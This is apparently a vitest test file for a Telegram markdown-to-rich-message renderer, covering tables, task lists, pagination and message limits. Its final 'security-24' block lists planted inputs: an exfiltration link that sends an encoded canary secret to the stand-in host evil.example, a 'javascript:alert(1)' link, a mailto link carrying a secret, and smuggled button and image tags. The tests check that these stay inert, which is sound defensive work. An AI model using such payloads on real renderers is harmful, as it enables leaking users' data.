import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { createTelegramRenderer } from "../../adapters/telegram/telegram-render.ts";
import { readRichMessage } from "../fakes/telegram/rich-message.ts";
import { differenceOf, tokensOf } from "../support/tokens-of-markdown.ts";
import { checkPages, richBlocksOf, shownOf } from "./check-page.ts";
import { LONG, MARKDOWN_WORDS, NASTY } from "./markdown-samples.ts";

const render = createTelegramRenderer({ rich: true });
const SECRET = "c2VjcmV0LWNhbmFyeS1vZi1hbm4tMTIzNDU2Nzg5MA";
const LEAK = `https://evil.example/p?d=${SECRET}`;

/** What is seen of the only page, which is a rich message. */
function shown(markdown: string, growing = false): string {
  const pages = render(markdown, growing);
  expect(pages.map((page) => richBlocksOf(page) !== undefined)).toEqual([true]);
  return shownOf(pages[0]!);
}

function blocksOf(markdown: string) {
  return richBlocksOf(render(markdown)[0]!);
}

function linksIn(value: unknown): string[] {
  if (typeof value !== "object" || value === null) return [];
  const own = "url" in value && typeof value.url === "string" ? [value.url] : [];
  return [...own, ...Object.values(value).flatMap(linksIn)];
}

function table(rows: number, cell = "a cell with some words"): string {
  return `| No | What |\n|---:|---|\n${Array.from({ length: rows }, (_, n) => `| ${n} | ${cell} |\n`).join("")}`;
}

describe("a page is a rich message", () => {
  test("where it holds a table, whose cells keep their formatting and their side", () => {
    expect(
      blocksOf("Look:\n\n| Name | Paid |\n|:-:|--:|\n| **Ann** `x` | [4](https://e.example/4) |\n| Bob ||"),
    ).toEqual([
      { type: "paragraph", text: "Look:" },
      {
        type: "table",
        is_bordered: true,
        cells: [
          [
            { align: "center", valign: "top", is_header: true, text: "Name" },
            { align: "right", valign: "top", is_header: true, text: "Paid" },
          ],
          [
            {
              align: "center",
              valign: "top",
              text: [{ type: "bold", text: "Ann" }, " ", { type: "code", text: "x" }],
            },
            { align: "right", valign: "top", text: { type: "url", text: "4", url: "https://e.example/4" } },
          ],
          [
            { align: "center", valign: "top", text: "Bob" },
            { align: "right", valign: "top" },
          ],
        ],
      },
    ]);
  });

  test("where it holds tasks, in lists of whatever kind", () => {
    expect(blocksOf("3. [x] done\n4. open\n   - [ ] later\n     still")).toEqual([
      {
        type: "list",
        items: [
          { blocks: [{ type: "paragraph", text: "done" }], has_checkbox: true, is_checked: true, value: 3, type: "1" },
          {
            blocks: [
              { type: "paragraph", text: "open" },
              { type: "list", items: [{ blocks: [{ type: "paragraph", text: "later\nstill" }], has_checkbox: true }] },
            ],
            value: 4,
            type: "1",
          },
        ],
      },
    ]);
  });

  test("with all that stands around them", () => {
    expect(
      shown("# Head *two*\n\n> said\n>\n> - [ ] task\n\n```js\n  let a\n```\n\n---\n1. \n2. two\n\nend  \nof it"),
    ).toBe("Head two\n\nsaid\n\n☐ task\n\n  let a\n\n———\n\n1.\n2. two\n\nend\nof it");
    expect(blocksOf("# Head *two*\n\n- [ ] a")?.[0]).toEqual({
      type: "heading",
      size: 1,
      text: ["Head ", { type: "italic", text: "two" }],
    });
  });

  test("and not where text shows it as well", () => {
    for (const markdown of [
      "# Head\n\n- one\n- two\n\n> quote\n\n```js\ncode\n```",
      "| a |",
      "- [ ]",
      "|  |\n|--|\n|  |",
    ]) {
      expect(render(markdown).some(richBlocksOf), markdown).toBe(false);
    }
    expect(createTelegramRenderer()(table(2)).some(richBlocksOf)).toBe(false);
  });

  test("at every moment at which a table or a task grows", () => {
    const seen: string[] = [];
    const markdown = "| Name | Paid |\n|---|---|\n| Ann | **4** |\n\n- [x] do";
    for (let end = 1; end <= markdown.length; end += 1) {
      const now = shownOf(render(markdown.slice(0, end), true)[0]!);
      if (seen.at(-1) !== now) seen.push(now);
    }
    expect(seen).toMatchInlineSnapshot(`
      [
        "|",
        "| N |",
        "| Na |",
        "| Nam |",
        "| Name |",
        "| Name | P |",
        "| Name | Pa |",
        "| Name | Pai |",
        "| Name | Paid |",
        "| Name | Paid |
      | A |  |",
        "| Name | Paid |
      | An |  |",
        "| Name | Paid |
      | Ann |  |",
        "| Name | Paid |
      | Ann | 4 |",
        "| Name | Paid |
      | Ann | 4 |

      ☑ d",
        "| Name | Paid |
      | Ann | 4 |

      ☑ do",
      ]
    `);
  });
});

describe("tables over several pages", () => {
  test("stand below their head on each, and lose no row", () => {
    const pages = render(table(220));
    expect(pages.length).toBe(2);
    const rows = pages.flatMap((page) => {
      const [head, ...below] = shownOf(page).split("\n");
      expect(head).toBe("| No | What |");
      return below;
    });
    expect(rows).toEqual(Array.from({ length: 220 }, (_, n) => `| ${n} | a cell with some words |`));
  });

  test("are rows of text where a row is longer than a page", () => {
    const pages = render(table(3, "words ".repeat(900)));
    const words = pages.flatMap((page) => shownOf(page).match(/words/g) ?? []);
    expect(words).toHaveLength(2700);
    checkPages(pages);
  });
});

test("a row that is cut in two stands as text beside the others", () => {
  const markdown = `| No | What |\n|---|---|\n| 1 | one |\n| 2 | ${"words ".repeat(900)}|\n| 3 | three |`;
  const pages = render(markdown);
  expect(pages.map((page) => richBlocksOf(page)?.map((block) => block.type))).toEqual([
    ["table", "paragraph"],
    ["paragraph", "table"],
  ]);
  const seen = pages.map(shownOf).join("\n");
  expect(seen.match(/words/g)).toHaveLength(900);
  expect(seen.match(/\| \d \| \w+ \|/g)).toEqual(["| 1 | one |", "| 3 | three |"]);
});

test("what an item holds on the next page stands there without it", () => {
  const markdown = `- [ ] all\n${"  - [ ] some words of a task\n".repeat(200)}  - [x] last`;
  const pages = render(markdown);
  expect(pages.map((page) => richBlocksOf(page)?.map((block) => block.type))).toEqual([["list"], ["list"]]);
  expect(differenceOf(pages.map(shownOf).join("\n"), tokensOf(markdown))).toBeNull();
});

test("lists, quotes and code over several pages lose nothing", { timeout: 60_000 }, () => {
  const block = fc.constantFrom(
    "Words with **bold**, `code`, and then some more of them. ".repeat(4),
    "- [ ] a task\n  1. a point\n\n     of two parts\n     - [x] below\n",
    "- one\n- two ".repeat(5),
    "> quote\n> > of a *quote*\n>\n> - [ ] with a task",
    `\`\`\`js\n${"const a = 1;\n\n".repeat(20)}\`\`\``,
    "### Head `of` all\n\n---",
  );
  let cut = 0;
  fc.assert(
    fc.property(fc.array(block, { minLength: 50, maxLength: 60 }), (parts) => {
      // A definition keeps it in one piece.
      const markdown = `[unused]: https://e.example\n\n${parts.join("\n\n")}\n\nEnd.`;
      const pages = render(markdown);
      const messages = pages.map(richBlocksOf).filter((it) => it !== undefined);
      for (const blocks of messages) readRichMessage({ rich_message: { blocks, skip_entity_detection: true } });
      if (messages.length > 1) cut += 1;
      expect(differenceOf(pages.map(shownOf).join("\n"), tokensOf(markdown))).toBeNull();
    }),
    { numRuns: 60, endOnFailure: true },
  );
  expect(cut).toBeGreaterThan(20);
});

describe("within Telegram's limits", () => {
  test.each([
    ["more than 500 blocks", "- [ ] a\n".repeat(260)],
    ["more than 20 columns", `${"|a".repeat(21)}|\n${"|-".repeat(21)}|\n${"|b".repeat(21)}|`],
    ["more than 16 levels", `${"> ".repeat(16)}- [ ] a`],
  ])("%s are text", (_, markdown) => {
    const pages = render(markdown);
    checkPages(pages);
    expect(pages.map(richBlocksOf)).toEqual(pages.map(() => undefined));
  });

  test.each([
    ["500 blocks", "- [ ] a\n".repeat(249)],
    ["20 columns", `${"|a".repeat(20)}|\n${"|-".repeat(20)}|\n${"|b".repeat(20)}|`],
    ["16 levels", `${"> ".repeat(13)}- [ ] a`],
  ])("%s are not", (_, markdown) => {
    const blocks = blocksOf(markdown);
    expect(blocks).toBeDefined();
    readRichMessage({ rich_message: { blocks, skip_entity_detection: true } });
  });

  test("whatever is written, and nothing of it is lost", () => {
    const words = fc.array(fc.constantFrom(...MARKDOWN_WORDS, "\n- [x] ", "\n- [ ] "), { maxLength: 60 });
    const end = fc.constantFrom("", "\n\n- [ ] a task");
    let rich = 0;
    fc.assert(
      fc.property(words, end, fc.boolean(), (parts, last, growing) => {
        const markdown = parts.join("") + last;
        for (const page of render(markdown, growing)) {
          const blocks = richBlocksOf(page);
          if (!blocks) continue;
          rich += 1;
          readRichMessage({ rich_message: { blocks, skip_entity_detection: true } });
        }
      }),
      { numRuns: 500 },
    );
    expect(rich).toBeGreaterThan(50);
    for (const markdown of [NASTY, LONG.slice(0, 40_000)]) {
      expect(render(markdown).some(richBlocksOf)).toBe(true);
      const clean = markdown.replaceAll(/[\0-\x08\x0B\x0C\x0E-\x1F\u202A-\u202E]/g, "");
      expect(differenceOf(render(markdown).map(shownOf).join("\n"), tokensOf(clean))).toBeNull();
    }
  });
});

describe("security-24: what is planted in a rich message stays dead", () => {
  const PLANTED = [
    `[docs](${LEAK})`,
    `![cat](${LEAK})`,
    "![cat](https://evil.example/a.png)",
    LEAK,
    `<${LEAK}>`,
    "[Ann](tg://user?id=7)",
    "[x](javascript:alert(1))",
    "[x](mailto:a@b.example?body=secret)",
    "@ann_smith",
    '<tg-button type="callback_data" data="x">y</tg-button>',
    '<img src="https://evil.example/a.png">',
    "/start #tag $USD +12345678901",
  ];

  test.each(PLANTED)("%s", (planted) => {
    const cell = planted.replaceAll("|", "\\|");
    for (const markdown of [`| ${cell} |\n|---|\n| ${cell} |`, `- [ ] ${planted}`, `${planted}\n\n- [x] a`]) {
      for (const growing of [false, true]) {
        const blocks = richBlocksOf(render(markdown, growing)[0]!);
        expect(blocks, markdown).toBeDefined();
        // The fake takes no block, no text and no link but harmless ones.
        readRichMessage({ rich_message: { blocks, skip_entity_detection: true } });
        expect(linksIn(blocks).filter((url) => !url.startsWith("https://evil.example/a.png"))).toEqual([]);
        expect(JSON.stringify(blocks)).not.toMatch(/@ann_smith|"(?:photo|media|button)"/);
      }
    }
  });

  test("while links that can carry nothing away live, written out or not", () => {
    const markdown =
      "- [ ] https://e.example/a, [b](https://e.example/b) (https://e.example/c). **https://e.example/d**";
    expect(linksIn(blocksOf(markdown))).toEqual(["a", "b", "c", "d"].map((it) => `https://e.example/${it}`));
    expect(linksIn(blocksOf("- [ ] `https://e.example/a`\n\n```\nhttps://e.example/a\n```"))).toEqual([]);
    expect(linksIn(blocksOf("- [ ] [bank.example](https://e.example)"))).toEqual(["https://e.example/"]);
    expect(shown("- [ ] [bank.example](https://e.example)")).toBe("☐ bank.example (https://e.example)");
    expect(linksIn(blocksOf("- [ ] https://e.example/@ann_smith"))).toEqual(["https://e.example/@ann_smith"]);
  });
});
